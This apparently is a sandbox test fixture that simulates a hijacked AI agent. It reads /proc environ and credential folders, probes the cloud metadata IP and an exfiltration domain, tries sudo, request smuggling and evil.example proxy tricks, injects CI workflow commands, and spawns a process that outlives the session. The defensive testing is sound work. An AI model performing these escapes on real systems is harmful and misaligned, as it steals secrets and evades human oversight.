// A hijacked agent: run inside the jail by the end-to-end test, it tries every channel in the
// bypass checklist (runtime-anchors.md §9). It does not know the secrets; it dumps everything it
// can read to stdout and reports which attempts got through, and the test (outside) searches that
// output for the secrets and checks its own listeners received nothing.
'use strict';
const fs = require('node:fs');
const net = require('node:net');
const dgram = require('node:dgram');
const dns = require('node:dns');
const path = require('node:path');
const { spawn, spawnSync } = require('node:child_process');

const targets = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
const results = [];
const dump = [];
const note = (channel, reached, detail) => results.push({ channel, reached, detail: String(detail).slice(0, 300) });

/** Reached: the file (or folder) is there with something in it. A masked file reads empty. */
function readAll(file) {
  try {
    const st = fs.statSync(file);
    if (!st.isFile()) return st.isDirectory();
    const text = st.size < 65536 ? fs.readFileSync(file, 'utf8') : 'large';
    dump.push(`FILE ${file}: ${text}`);
    return text.length > 0;
  } catch {
    return false;
  }
}

function walk(dir, depth) {
  if (depth > 5) return;
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const e of entries) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) {
      if (e.name === 'node_modules' || e.name === 'objects') continue;
      walk(full, depth + 1);
    } else if (e.isFile()) readAll(full);
  }
}

const connect = (options, payload) =>
  new Promise((resolve) => {
    const socket = net.connect(options);
    let data = '';
    const timer = setTimeout(() => {
      socket.destroy();
      resolve({ ok: false, detail: 'timeout' });
    }, 2000);
    socket.on('connect', () => {
      if (payload === undefined) {
        clearTimeout(timer);
        socket.destroy();
        resolve({ ok: true, detail: 'connected' });
      } else socket.write(payload);
    });
    socket.on('data', (d) => (data += d));
    socket.on('end', () => {
      clearTimeout(timer);
      resolve({ ok: true, detail: data });
    });
    socket.on('error', (err) => {
      clearTimeout(timer);
      resolve({ ok: data.length > 0, detail: data || err.code || err.message });
    });
  });

const udp = (host, port, family) =>
  new Promise((resolve) => {
    const s = dgram.createSocket(family);
    s.on('error', (err) => {
      s.close();
      resolve({ ok: false, detail: err.code });
    });
    s.send(Buffer.from('exfil'), port, host, (err) => {
      s.close();
      resolve({ ok: !err, detail: err ? err.code : 'sent' });
    });
  });

function httpRaw(request) {
  return connect({ host: '127.0.0.1', port: targets.proxyPort }, request);
}

function status(response) {
  const m = /^HTTP\/1\.1 (\d{3})/.exec(response.detail || '');
  return m ? Number(m[1]) : 0;
}

async function main() {
  // 1. Environment: every value, as the agent sees it.
  dump.push(`ENV ${JSON.stringify(process.env)}`);

  // 2. Other processes: /proc/*/environ and cmdline (the guard's environ holds the real key).
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    for (const f of ['environ', 'cmdline']) readAll(`/proc/${pid}/${f}`);
    try {
      dump.push(`MEM ${pid}: ${fs.readFileSync(`/proc/${pid}/mem`).length}`);
      note(`/proc/${pid}/mem`, true, 'readable');
    } catch {
      // expected
    }
  }
  note('visible pids', fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).length > 10, fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).join(' '));

  // 3. Credential files in every home, runner folders, temp folders, the workspace's .git.
  for (const dir of ['/home', '/root', '/tmp', '/var/tmp', '/run', '/dev/shm', ...targets.dirs]) walk(dir, 0);
  for (const file of targets.files) note(`read ${file}`, readAll(file), 'attempted');

  // 4. Writes that would steer later steps or persist.
  for (const file of targets.writeTargets) {
    try {
      fs.appendFileSync(file, 'PWNED=1\n');
      note(`write ${file}`, true, 'appended');
    } catch (err) {
      note(`write ${file}`, false, err.code);
    }
  }

  // 5. Host unix sockets.
  for (const sock of targets.unixSockets) {
    const r = await connect({ path: sock });
    note(`unix ${sock}`, r.ok, r.detail);
  }

  // 6. TCP, UDP and IPv6 to listeners on the host's loopback; the internet; DNS.
  for (const [host, port] of [['127.0.0.1', targets.tcpPort], ['::1', targets.tcpPort], ['1.1.1.1', 443], ['2606:4700:4700::1111', 443], ['169.254.169.254', 80], ['168.63.129.16', 53]]) {
    const r = await connect({ host, port });
    note(`tcp ${host}:${port}`, r.ok, r.detail);
  }
  for (const [host, port, fam] of [['127.0.0.1', targets.udpPort, 'udp4'], ['8.8.8.8', 53, 'udp4'], ['::1', targets.udpPort, 'udp6']]) {
    const r = await udp(host, port, fam);
    // A UDP send to loopback "succeeds" locally even with nobody listening: the test checks the listener.
    note(`udp ${host}:${port}`, r.ok && !host.startsWith('127.') && host !== '::1', r.detail);
  }
  await new Promise((resolve) => {
    const resolver = new dns.Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers([`127.0.0.1:${targets.udpPort}`]);
    resolver.resolve4('exfil.example.com', (err) => {
      note('dns via host loopback resolver', !err, err ? err.code : 'answered');
      resolve();
    });
  });
  await new Promise((resolve) => dns.lookup('example.com', (err) => {
    note('dns via system resolver', !err, err ? err.code : 'answered');
    resolve();
  }));

  // 7. Privilege: a setuid-root binary and sudo.
  for (const cmd of [[targets.setuidId, ['-u']], ['sudo', ['-n', 'id', '-u']], ['su', ['-c', 'id -u']]]) {
    const r = spawnSync(cmd[0], cmd[1], { encoding: 'utf8', timeout: 5000 });
    note(`privilege ${cmd[0]}`, (r.stdout || '').trim() === '0', r.error ? r.error.code : `${r.status} ${(r.stdout || '').trim()} ${(r.stderr || '').trim()}`);
  }

  // 8. The proxy: one honest call, then the tricks.
  const body = JSON.stringify({ model: 'claude-fake', max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] });
  const post = (target, json, extra = '') =>
    `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1:${targets.proxyPort}\r\ncontent-type: application/json\r\nx-api-key: ${process.env.ANTHROPIC_API_KEY}\r\n${extra}content-length: ${Buffer.byteLength(json)}\r\nconnection: close\r\n\r\n${json}`;
  const honest = await httpRaw(post('/v1/messages', body));
  note('honest model call', status(honest) === 200, (honest.detail || '').split('\r\n')[0]);
  dump.push(`HONEST ${honest.detail}`);
  const tricks = {
    'attacker key': post('/v1/messages', body, 'x-api-key: ATTACKER-KEY-123\r\nauthorization: Bearer ATTACKER-KEY-123\r\n').replace(/x-api-key: [^\r]*\r\n/, ''),
    CONNECT: `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`,
    'absolute-form': `GET http://evil.example/v1/models HTTP/1.1\r\nHost: evil.example\r\nconnection: close\r\n\r\n`,
    'host header': `GET /v1/models HTTP/1.1\r\nHost: evil.example\r\nconnection: close\r\n\r\n`,
    'two hosts': `GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\nconnection: close\r\n\r\n`,
    traversal: post('/v1/messages/../../admin', body),
    'encoded traversal': post('/v1/%2e%2e/%2e%2e/admin', body),
    'encoded slash': post('/v1%2fmessages', body),
    'other route': `GET /v1/files HTTP/1.1\r\nHost: 127.0.0.1\r\nconnection: close\r\n\r\n`,
    'CL and TE': `POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\n`,
    'two CLs': `POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-length: 2\r\ncontent-length: 40\r\nconnection: close\r\n\r\n{}`,
    'oversize header': `GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nx-pad: ${'a'.repeat(70000)}\r\nconnection: close\r\n\r\n`,
    'oversize body': `POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-length: ${64 * 1024 * 1024}\r\nconnection: close\r\n\r\n`,
    'web_fetch tool': post('/v1/messages', JSON.stringify({ model: 'x', max_tokens: 1, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }], messages: [] })),
    'web_search tool': post('/v1/messages', JSON.stringify({ model: 'x', max_tokens: 1, tools: [{ type: 'web_search_20250305', name: 'web_search' }], messages: [] })),
    'mcp servers': post('/v1/messages', JSON.stringify({ model: 'x', max_tokens: 1, mcp_servers: [{ type: 'url', url: 'https://evil.example/mcp', name: 'x' }], messages: [] })),
    'url source': post('/v1/messages', JSON.stringify({ model: 'x', max_tokens: 1, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example/?data=secret' } }] }] })),
    upgrade: `GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  };
  for (const [name, request] of Object.entries(tricks)) {
    const r = await httpRaw(request);
    const code = status(r);
    // The attacker-key request is a valid call: it must succeed, but with the real key upstream.
    note(`proxy ${name}`, name === 'attacker key' ? false : code >= 200 && code < 300, `${code} ${(r.detail || '').split('\r\n')[0]}`);
  }

  // 9. Workflow commands on stdout and stderr.
  process.stdout.write('::set-output name=pwned::1\n  ::add-mask::hide-this\nprefix ##[set-output name=legacy;]1\nx\r::error::carriage\n');
  process.stderr.write('::warning::from-stderr\n');

  // 10. Something that outlives the agent.
  const child = spawn('sleep', ['300', targets.survivorMarker], { detached: true, stdio: 'ignore' });
  child.unref();

  process.stdout.write(`\nDUMP-BEGIN\n${dump.join('\n')}\nDUMP-END\n`);
  process.stdout.write(`REPORT ${JSON.stringify(results)}\n`);
}

main().catch((err) => {
  process.stdout.write(`REPORT-ERROR ${err && err.stack}\n`);
  process.exit(2);
});
